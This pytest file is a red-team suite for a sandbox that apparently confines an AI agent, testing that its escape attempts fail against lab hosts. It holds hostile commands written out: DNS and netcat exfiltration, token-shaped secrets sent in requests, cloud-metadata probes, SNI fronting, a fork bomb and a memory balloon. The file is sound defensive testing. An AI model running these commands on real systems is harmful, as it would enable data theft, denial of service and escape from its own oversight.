"""The red team: attacks from inside a started bottle, against lab hosts only,
under runc and under gVisor.

No case can pass by accident:
- `attack` fails the test unless the bottle started and the attack script ran
  to its end (exit status 0 and a `ran-<mark>` line printed from inside);
- each refused attempt has a positive control beside it: the same client
  reaching an allowed target by the same path, or a lab container (outside any
  bottle) showing that the target answers and logs what reaches it;
- failures are asserted by kind (a proxy's 403, "could not connect"), so a
  timeout is a failure of the test, not a success of the wall."""

from __future__ import annotations

import re
import secrets
import subprocess
from dataclasses import dataclass
from pathlib import Path

import pytest

from claude_bottle.engine import labels
from claude_bottle.engine.docker import DockerEngine
from tests.conftest import wait_for
from tests.engine.conftest import cli
from tests.installed import cli_argv
from tests.sidecar.conftest import ATTACKER_IMAGE, PROXY, Lab

RUNTIMES = [pytest.param("attacker", id="runc"), pytest.param("attacker-gvisor", id="runsc")]
# Every request below names its proxy explicitly and ignores NO_PROXY, so
# nothing takes the agent's loopback shortcut when the proxy is under test.
VIA = "--noproxy '' -x \"$HTTPS_PROXY\""
DIRECT = "--noproxy '*'"
CURL_COULD_NOT_CONNECT = 7


@dataclass(frozen=True)
class Attack:
    stdout: str
    stderr: str

    def value(self, name: str) -> str:
        found: list[str] = re.findall(rf"^{re.escape(name)}=(\S*)$", self.stdout, re.MULTILINE)
        assert len(found) == 1, f"{name}= printed {len(found)} times in:\n{self.stdout}"
        return found[0]


def attack(project: Path, agent: str, script: str, **env: str) -> Attack:
    mark = secrets.token_hex(6)
    r = cli("run", agent, "--", "sh", "-c", f"echo ran-{mark}; {script}\necho done-{mark}", cwd=project,
            env={"CLAUDE_BOTTLE_IMAGE": ATTACKER_IMAGE, **env}, timeout=180)  # fmt: skip
    assert r.returncode == 0, f"the bottle did not run the attack:\n{r.stderr}"
    assert f"ran-{mark}\n" in r.stdout, r.stdout
    assert f"done-{mark}\n" in r.stdout, r.stdout
    return Attack(r.stdout, r.stderr)


def canary() -> str:
    return f"c{secrets.token_hex(6)}"


def curl(name: str, url: str, *flags: str) -> str:
    """A curl whose HTTP status, CONNECT status and exit status are printed as
    `name=<http>/<connect>/<exit>` (000 when there was none)."""
    status = f"{name}=%{{http_code}}/%{{http_connect}}"
    return f'curl -s -m 8 -o /dev/null -w \'{status}\' {" ".join(flags)} "{url}"; echo "/$?"'


@pytest.fixture(params=RUNTIMES)
def agent(request: pytest.FixtureRequest) -> str:
    return str(request.param)


def test_direct_ip_with_the_proxy_ignored(lab_project: Path, lab: Lab, agent: str) -> None:
    c = canary()
    direct = f"http://{lab.web_ip}/{c}"
    a = attack(lab_project, agent, "; ".join([
        curl("direct", direct, DIRECT),
        "P=$HTTPS_PROXY; unset HTTPS_PROXY HTTP_PROXY https_proxy http_proxy",
        curl("unset", direct),
        curl("control", "http://allowed.test/control", VIA.replace("$HTTPS_PROXY", "$P")),
    ]))  # fmt: skip
    assert a.value("direct") == f"000/000/{CURL_COULD_NOT_CONNECT}"
    assert a.value("unset") == f"000/000/{CURL_COULD_NOT_CONNECT}"
    assert a.value("control") == "200/000/0"
    # The address is right: from the lab it answers, and logs what reaches it.
    lab.control(f"curl -s http://{lab.web_ip}/control-{c}")
    assert lab.web_saw(f"/control-{c}")
    assert not lab.web_saw(f"/{c}")


def test_direct_tcp_and_udp(lab_project: Path, lab: Lab, agent: str) -> None:
    c = canary()
    a = attack(lab_project, agent,
               f"printf 'tcp-{c}' | nc -w 2 {lab.web_ip} 9000; echo tcp=$?; "
               f"python3 -c \"import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
               f"try:\n  s.sendto(b'udp-{c}', ('{lab.web_ip}', 5353)); print('udp=sent')\n"
               f"except OSError as e:\n  print('udp=' + str(e.errno))\"")  # fmt: skip
    assert a.value("tcp") != "0"
    assert a.value("udp") in ("sent", "101")  # into the void, or refused at once; never to the lab
    # Control, after the attack: the listeners log what reaches them.
    udp = f"socket.socket(2, 2).sendto(b'udp-ctl-{c}', ('{lab.web_ip}', 5353))"
    lab.control(f"printf 'tcp-ctl-{c}' | nc -w 1 {lab.web_ip} 9000; python3 -c \"import socket; {udp}\"")
    wait_for(lambda: lab.web_saw(f"udp-ctl-{c}") and lab.web_saw(f"tcp-ctl-{c}"), 10, "the control's packets")
    assert not lab.web_saw(f"tcp-{c}")
    assert not lab.web_saw(f"udp-{c}")


ICMP_ECHO = (
    "import socket, sys\n"
    "try:\n"
    "  s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP); s.settimeout(3)\n"
    "  s.sendto(bytes([8, 0, 0, 0, 0, 1, 0, 1]) + b'probe', (sys.argv[1], 0))\n"
    "  s.recv(64); print('icmp=reply')\n"
    "except OSError as e:\n"
    "  print('icmp=' + (str(e.errno) if e.errno else 'timeout'))\n"
)


def test_icmp(lab_project: Path, lab: Lab, agent: str) -> None:
    # An unprivileged ICMP socket (what ping uses without capabilities), so the
    # case tests the network, not the privilege the agent lacks.
    a = attack(lab_project, agent, f'python3 -c "{ICMP_ECHO}" {lab.web_ip}')
    # No reply (runc: into the void); no ICMP sockets at all (gVisor: 97).
    assert a.value("icmp") in ("timeout", "97", "101", "113")
    assert "icmp=reply" in lab.control(f'python3 -c "{ICMP_ECHO}" {lab.web_ip}')


def test_privileges_are_gone_for_every_process(lab_project: Path, lab: Lab, agent: str) -> None:
    a = attack(lab_project, agent,
               "grep -E '^(CapEff|CapPrm|CapBnd|NoNewPrivs|Seccomp):' /proc/self/status | tr -d '\\t' "
               "| sed 's/:/=/'; ip route add 10.99.0.0/16 dev lo 2>/dev/null; echo addroute=$?")  # fmt: skip
    assert a.value("CapEff") == "0000000000000000"
    assert a.value("CapPrm") == "0000000000000000"
    # The bounding set is what shows --cap-drop ALL: nothing, even setuid root, can gain a capability.
    assert a.value("CapBnd") == "0000000000000000"
    assert a.value("addroute") != "0"
    if agent == "attacker":
        # gVisor's /proc reports neither field (a known limit, in the README).
        assert a.value("NoNewPrivs") == "1"
        assert a.value("Seccomp") == "2"


def test_dns_to_a_lab_server_by_address(lab_project: Path, lab: Lab, agent: str) -> None:
    c = canary()
    a = attack(
        lab_project, agent, f"dig @{lab.dns_ip} +time=2 +tries=1 {c}.exfil.test >/dev/null 2>&1; echo dig=$?"
    )
    assert a.value("dig") != "0"
    lab.control(f"dig @{lab.dns_ip} +time=2 +tries=1 ctl-{c}.exfil.test >/dev/null; true")
    assert f"ctl-{c}.exfil.test" in lab.dns_queries()
    assert f"{c}.exfil.test" not in lab.dns_queries()


def test_no_ipv6(lab_project: Path, lab: Lab, agent: str) -> None:
    a = attack(lab_project, agent,
               "python3 -c \"import socket\ntry:\n  s=socket.socket(socket.AF_INET6); s.settimeout(3); "
               "s.connect(('fd00::1', 80)); print('v6=connected')\n"
               "except OSError as e:\n  print('v6=' + str(e.errno))\"; "
               "echo global=$(cat /proc/net/if_inet6 2>/dev/null | grep -vc -e ' lo$')")  # fmt: skip
    # No address to send from, no route, or no IPv6 at all: never a timeout.
    assert a.value("v6") in ("99", "101", "97")
    assert a.value("global") == "0"


def test_no_docker_socket_and_no_way_to_the_host(lab_project: Path, lab: Lab, agent: str) -> None:
    a = attack(lab_project, agent,
               "test -e /var/run/docker.sock; echo sock=$?; "
               # The internal network's gateway address: the host's side, if it had one.
               "gw=$(ip -4 -o addr show eth0 | awk '{split($4, a, \"/\"); split(a[1], o, \".\"); "
               "print o[1]\".\"o[2]\".\"o[3]\".1\"}'); echo gw=$gw; "
               f"{curl('daemon', 'http://$gw:2375/', DIRECT)}")  # fmt: skip
    assert a.value("sock") == "1"
    assert re.fullmatch(r"\d+\.\d+\.\d+\.1", a.value("gw"))
    assert a.value("daemon").endswith(f"/{CURL_COULD_NOT_CONNECT}")


def test_metadata_address_directly_and_through_the_proxy(lab_project: Path, lab: Lab, agent: str) -> None:
    a = attack(lab_project, agent,
               f"{curl('direct', 'http://169.254.169.254/', DIRECT)}; "
               f"{curl('proxied', 'http://169.254.169.254/latest/meta-data/', VIA)}; "
               f"{curl('control', 'http://allowed.test/', VIA)}")  # fmt: skip
    assert a.value("direct") == f"000/000/{CURL_COULD_NOT_CONNECT}"
    assert a.value("proxied") == "403/000/0"
    assert a.value("control") == "200/000/0"


@pytest.mark.parametrize("url", [
    "http://127.0.0.1:9464/metrics", "http://2130706433:9464/", "http://0x7f000001:9464/",
    "http://[::ffff:127.0.0.1]:9464/", "http://localhost/", "http://10.0.0.1/", "http://[::1]/",
    "http://private.lab.test/", "https://private.lab.test/",
])  # fmt: skip
def test_loopback_and_private_addresses_through_the_proxy(lab_project: Path, lab: Lab, url: str) -> None:
    a = attack(
        lab_project,
        "attacker",
        f"{curl('attempt', url, VIA, '-k')}; {curl('control', 'http://allowed.test/', VIA)}",
    )
    status = a.value("attempt")
    assert status in ("403/000/0", "000/403/56"), status  # refused by the proxy: plain 403, or CONNECT 403
    assert a.value("control") == "200/000/0"


def test_ports_other_than_443_80_and_ssh(lab_project: Path, lab: Lab, agent: str) -> None:
    c = canary()
    a = attack(lab_project, agent,
               f"{curl('tls8443', f'https://allowed.test:8443/{c}', VIA, '-k')}; "
               f"{curl('http8080', f'http://allowed.test:8080/{c}', VIA)}; "
               f"{curl('connect80', f'http://allowed.test/tunnel-{c}', VIA, '--proxytunnel')}; "
               f"{curl('tls', f'https://allowed.test/ctl-{c}', VIA, '-k')}; "
               f"{curl('http', f'http://allowed.test/ctl-{c}', VIA)}")  # fmt: skip
    # Squid refuses the request (403). Pipelock lets it through and the port guard
    # refuses the connection it opens, which Pipelock answers as any failed dial (502).
    refused = "403" if PROXY == "squid" else "502"
    assert a.value("tls8443") == f"000/{refused}/56"
    assert a.value("http8080") == f"{refused}/000/0"
    # Plain HTTP only as ordinary proxied requests, which the proxy inspects.
    assert a.value("connect80") == ("000/403/56" if PROXY == "squid" else "200/200/0")
    assert lab.web_saw(f"/tunnel-{c}") == (PROXY == "pipelock")  # a stated limit of Pipelock's
    assert a.value("tls") == "200/200/0"
    assert a.value("http") == "200/000/0"
    assert not lab.web_saw(f"/{c}")
    # Either way the summary says why, in the same words.
    assert "          allowed.test:8443: port_not_allowed (" in a.stderr
    assert "          allowed.test:8080: port_not_allowed (" in a.stderr


@pytest.mark.parametrize("host", ["evilallowed.test", "allowed.test.evil.test", "blocked.test", "EVIL.TEST."])
def test_look_alike_names_are_refused(lab_project: Path, lab: Lab, host: str) -> None:
    c = canary()
    a = attack(lab_project, "attacker",
               f"{curl('tls', f'https://{host}/{c}', VIA, '-k')}; "
               f"{curl('userinfo', f'http://allowed.test@{host}/{c}', VIA)}; "
               f"{curl('control', f'https://allowed.test/ctl-{c}', VIA, '-k')}")  # fmt: skip
    assert a.value("tls") == "000/403/56"
    assert a.value("userinfo") == "403/000/0"
    assert a.value("control") == "200/200/0"
    assert not lab.web_saw(f"/{c}")


def test_an_address_whose_reverse_name_is_allowed_is_refused(lab_project: Path, lab: Lab, agent: str) -> None:
    # Docker's DNS gives the lab web server's address a reverse name; whatever
    # it is, an address is never matched against the allowlist by that name.
    a = attack(
        lab_project,
        agent,
        f"{curl('tls', f'https://{lab.web_ip}/', VIA, '-k')}; {curl('http', f'http://{lab.web_ip}/', VIA)}",
    )
    assert a.value("tls") == "000/403/56"
    assert a.value("http") == "403/000/0"


def test_the_allowed_name_in_other_spellings_still_means_only_that_host(lab_project: Path, lab: Lab) -> None:
    a = attack(lab_project, "attacker", f"curl -sk -m 8 {VIA} https://ALLOWED.TEST./x; echo")
    assert "hello from allowed.test. over https\n" in a.stdout.lower()


def test_a_redirect_from_an_allowed_host_to_a_blocked_one(lab_project: Path, lab: Lab, agent: str) -> None:
    c = canary()
    redirect = "https://allowed.test/redirect?to="
    a = attack(lab_project, agent, "; ".join([
        curl("attempt", f"{redirect}https://blocked.test/{c}", VIA, "-kL"),
        curl("control", f"{redirect}https://allowed.test/ctl-{c}", VIA, "-kL"),
    ]))  # fmt: skip
    assert a.value("attempt") == "000/403/56"
    assert a.value("control") == "200/200/0"
    assert lab.web_saw(f"/ctl-{c}")
    assert not any(str(e.get("host", "")).startswith("blocked.test") for e in lab.web_log())


def test_a_secret_shaped_canary_in_plain_http_is_refused(lab_project: Path, lab: Lab, agent: str) -> None:
    token = "ghp_" + secrets.token_hex(18)  # the shape of a GitHub token
    aws = "AKIA" + secrets.token_hex(8).upper()
    a = attack(lab_project, agent, "; ".join([
        curl("url", f"http://allowed.test/?t={token}", VIA),
        curl("aws", f"http://allowed.test/{aws}", VIA),
        curl("header", "http://allowed.test/", VIA, f"-H 'Authorization: Bearer {token}'"),
        curl("control", "http://allowed.test/?t=not-a-secret", VIA, "-H 'Authorization: Bearer x'"),
    ]))  # fmt: skip
    assert a.value("url") == "403/000/0"
    assert a.value("aws") == "403/000/0"
    assert a.value("header") == "403/000/0"
    assert a.value("control") == "200/000/0"
    assert not lab.web_saw(token)
    assert not lab.web_saw(aws)
    assert "secret_in_request" in a.stderr


def test_a_second_bottle_cannot_be_reached(engine: DockerEngine, lab_project: Path, lab: Lab) -> None:
    holder = subprocess.Popen(
        cli_argv("run", "worker", "--", "sh", "-c", "echo up; sleep 60"),
        cwd=lab_project, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    try:
        assert holder.stdout is not None
        assert holder.stdout.readline() == "up\n"  # its session has started
        owned = f"label={labels.OWNER_PID}={holder.pid}"
        names = engine.lines("ps", "--filter", owned, "--format", "{{.Names}}")
        assert len(names) == 2, names
        fmt = "{{range .NetworkSettings.Networks}}{{.IPAddress}} {{end}}"
        ips = [ip for n in names for ip in engine.run("inspect", "-f", fmt, n).stdout.split()]
        # By address only: a name the bottle's DNS does not know would be asked
        # upstream by old engines (CVE-2024-29018), and tests send nothing out.
        probes = [curl(f"direct{i}", f"http://{ip}:3128/", DIRECT) for i, ip in enumerate(ips)]
        probes += [curl(f"proxied{i}", f"https://{ip}:443/", VIA, "-k") for i, ip in enumerate(ips)]
        a = attack(lab_project, "attacker", "; ".join(probes))
        for i in range(len(ips)):
            assert a.value(f"direct{i}").endswith(f"/{CURL_COULD_NOT_CONNECT}")
        for i in range(len(ips)):
            assert a.value(f"proxied{i}") == "000/403/56"
    finally:
        holder.terminate()
        holder.communicate(timeout=60)


def test_the_proxy_admin_interface(lab_project: Path, lab: Lab, agent: str) -> None:
    if PROXY == "squid":
        paths = ["squid-internal-mgr/menu", "squid-internal-mgr/info", "squid-internal-static/icons/x"]
    else:
        paths = ["metrics", "stats", "api/v1/killswitch", "api/v1/killswitch/status", "api/v1/sessions"]
    script = "; ".join(curl(f"p{i}", f"$HTTPS_PROXY/{p}", DIRECT, "-X POST") for i, p in enumerate(paths))
    script += "; " + curl("manager", "cache_object://egress-proxy/info", VIA)
    a = attack(lab_project, agent, f"{script}; {curl('control', 'http://allowed.test/', VIA)}")
    for i in range(len(paths)):
        assert not a.value(f"p{i}").startswith("200"), paths[i]
    assert not a.value("manager").startswith("200")
    assert a.value("control").startswith("200")


def test_a_memory_balloon_is_contained(lab_project: Path, lab: Lab) -> None:
    # runc only: under the gVisor release in Debian 12 the balloon takes the whole
    # sandbox down and the engine's removal of it can hang (a known limit, in the README).
    balloon = "node -e 'const a=[]; for(;;) a.push(Buffer.alloc(1e7, 1))'"
    a = attack(lab_project, "attacker", f"timeout 30 {balloon} >/dev/null 2>&1; echo balloon=$?")
    assert a.value("balloon") == "137"  # the kernel killed the balloon, the bottle lives on


def test_a_fork_bomb_is_contained_by_the_pid_limit(lab_project: Path, lab: Lab) -> None:
    # runc only: under gVisor the engine's PID limit does not count the agent's
    # processes (a known limit, in the README).
    a = attack(lab_project, "attacker",
               # Read the limit first: once the bomb has used it up, nothing else can start.
               "echo pids=$(cat /sys/fs/cgroup/pids.max /sys/fs/cgroup/pids/pids.max 2>/dev/null); "
               "timeout 10 sh -c 'f() { f | f & }; f' >/dev/null 2>&1; echo alive=yes")  # fmt: skip
    assert a.value("pids") == "128"
    assert a.value("alive") == "yes"


def test_tls_whose_sni_differs_from_the_connect_host(lab_project: Path, lab: Lab) -> None:
    c = canary()
    fronting = "--connect-to blocked.test:443:allowed.test:443"
    # Squid checks the server name with egress.sni on; Pipelock always does.
    agent = "sni-attacker" if PROXY == "squid" else "attacker"
    a = attack(lab_project, agent, "; ".join([
        curl("fronted", f"https://blocked.test/{c}", VIA, "-k", fronting),
        curl("control", f"https://allowed.test/ctl-{c}", VIA, "-k"),
    ]))  # fmt: skip
    assert not a.value("fronted").startswith("200")
    assert a.value("control") == "200/200/0"
    assert lab.web_saw(f"/ctl-{c}")
    assert not lab.web_saw(f"/{c}")
    assert "sni_not_allowed" in a.stderr


def test_a_tunnel_open_at_the_end_is_in_the_summary(lab_project: Path, lab: Lab) -> None:
    # The client speaks first, as an ssh client does (Pipelock reads a tunnel's first
    # bytes before it relays anything); the server's banner coming back shows the
    # tunnel open end to end before the session ends, with the tunnel still open.
    a = attack(lab_project, "gitter",
               "((printf 'SSH-2.0-probe\\r\\n'; sleep 60) | nc -X connect -x ${HTTPS_PROXY#http://} "
               "git.allowed.test 22 >/tmp/banner 2>/dev/null &); "
               "for i in $(seq 100); do grep -q '^SSH-2.0-' /tmp/banner && break; sleep 0.1; done; "
               "echo opened=$(head -c 8 /tmp/banner)")  # fmt: skip
    assert a.value("opened") == "SSH-2.0-"
    assert re.search(r"allowed : .*git\.allowed\.test:22", a.stderr), a.stderr
